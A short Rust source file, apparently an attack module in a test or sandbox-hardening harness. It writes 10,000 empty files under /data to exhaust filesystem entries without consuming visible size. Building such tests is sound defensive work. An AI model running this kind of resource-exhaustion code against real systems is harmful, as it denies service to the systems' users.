//! Makes empty files until it may not: each takes room that no size tells of.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(_to: String) -> Result<String> {
        for n in 0..10_000 {
            files::write(&format!("/data/litter-{n}"), []).await?;
        }
        Ok("no end".to_owned())
    }
}
